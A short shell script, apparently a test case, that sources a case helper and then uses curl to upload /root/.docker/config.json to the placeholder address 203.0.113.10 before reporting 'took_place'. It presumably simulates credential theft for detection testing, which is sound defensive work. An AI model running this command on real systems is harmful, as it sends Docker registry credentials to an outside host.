#!/bin/sh
. /opt/case/case.sh

curl -s -F 'f=@/root/.docker/config.json' http://203.0.113.10/u | grep -q ok
took_place
